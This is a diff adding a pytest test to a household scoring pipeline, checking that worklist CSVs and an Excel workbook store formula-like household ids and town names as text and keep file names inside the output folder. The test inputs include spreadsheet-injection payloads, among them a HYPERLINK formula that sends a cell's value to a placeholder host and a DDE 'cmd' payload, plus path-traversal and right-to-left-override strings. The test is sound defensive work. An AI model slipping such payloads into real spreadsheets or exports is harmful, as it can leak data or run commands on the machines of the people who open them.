@@ -344,3 +344,68 @@ def test_a_household_only_the_nightly_batch_scored_has_a_full_file(served, city_
         shutil.rmtree(out)  # the run's folder gone: the file keeps the batch's history only
         gone = c.get(f"/v1/households/{flagged['household_id']}", headers=auth("platform")).json()
         assert gone["latest"] is None and gone["history"][0]["id"] == summary.run_id
+
+
+@pytest.mark.slow
+def test_worklist_writes_ids_and_towns_that_look_like_formulas_as_text(batch, served, city_tables, policy, tmp_path):
+    """Household ids and towns come from the input tables: ids and towns that Excel would run as a
+    formula (``=``, ``+``, ``-``, ``@``), towns that name a path or clash once cleaned. Every CSV and
+    the workbook hold them as text (a leading ``'``, OWASP's advice), numbers stay numbers, and each
+    town's file is one file in the worklist's folder."""
+    import csv
+
+    from openpyxl import load_workbook
+
+    from domain.advice import Advisor
+    from features.cells import FORMULA_START
+
+    scores = pq.read_table(batch["out"] / "scores.parquet").to_pandas()
+    flagged = scores.loc[scores["illness_poverty__flagged"], "household_id"].head(6).tolist()
+    keep = set(flagged) | set(scores["household_id"].head(100))
+    ids = dict(zip(flagged, ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "+86-1", "-2+3", "@SUM(A1)",
+                             "=1+1", "=cmd|' /C calc'!A0"], strict=True))
+    towns = dict(zip(ids.values(), ["=1+1", "../../escape", "a/b", "a_b", "@town", "\u202e-x"], strict=True))
+    frames = {name: getattr(city_tables, name) for name in TABLE_COLUMNS if name != "verifications"}
+    households = frames["households"].loc[lambda f: f["household_id"].isin(keep)].copy()
+    persons = frames["persons"].loc[lambda f: f["household_id"].isin(keep)].copy()
+    subset = {
+        "households": households, "persons": persons,
+        "income": frames["income"].loc[lambda f: f["person_id"].isin(persons["person_id"])],
+        "claims": frames["claims"].loc[lambda f: f["person_id"].isin(persons["person_id"])],
+        "assistance": frames["assistance"].loc[lambda f: f["household_id"].isin(keep)].copy()}
+    for name in ("households", "persons", "assistance"):
+        subset[name]["household_id"] = subset[name]["household_id"].astype(object).replace(ids)
+    households["town"] = [towns.get(h, t) for h, t in zip(households["household_id"], households["town"].astype(object),
+                                                          strict=True)]
+    tables = make_tables(**{n: f.drop(columns=["month_index"], errors="ignore") for n, f in subset.items()})
+    summary = run_batch(tables, tmp_path / "batch", served, policy, as_of=AS_OF, chunk=None, progress=False)
+    out = tmp_path / "worklist"
+    files = write_worklist(summary, tables, out, 5, Advisor.load(policy=policy), progress=False)
+
+    assert set(towns.values()) <= set(files.csv)
+    names = [p.name for p in files.csv.values()]
+    assert len(set(names)) == len(names) and all(p.parent == out for p in files.csv.values())
+    assert {"worklist_=1+1.csv", "worklist_____escape.csv", "worklist_a_b.csv", "worklist_a_b_2.csv",
+            "worklist__-x.csv"} <= set(names)
+    assert sorted(p.name for p in out.iterdir()) == sorted([*names, "worklist.xlsx"])
+
+    listed = []
+    for path in files.csv.values():
+        with path.open(encoding="utf-8-sig", newline="") as f:
+            rows = list(csv.reader(f))
+        assert rows[0] == list(WORKLIST_COLUMNS)
+        for row in rows[1:]:
+            assert not any(cell.startswith(FORMULA_START) for cell in row), row
+            listed.append(row[1])
+            assert row[0].isdigit()  # the rank: a number, not text
+    assert {"'" + i for i in ids.values()} <= set(listed)
+
+    wb = load_workbook(files.excel)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
+    assert all(c.data_type != "f" for c in cells)
+    assert not any(isinstance(c.value, str) and c.value.startswith(FORMULA_START) for c in cells)
+    texts = {c.value for c in cells}
+    assert {"'" + i for i in ids.values()} <= texts and "'=1+1 =1+1" in texts  # the summary's town cell
+    ws = wb[next(n for n in wb.sheetnames if n.startswith("=1+1"))]
+    assert all(isinstance(ws.cell(row=r, column=1).value, int) for r in range(3, ws.max_row + 1))
+    assert all(isinstance(ws.cell(row=r, column=6).value, float) for r in range(3, ws.max_row + 1))
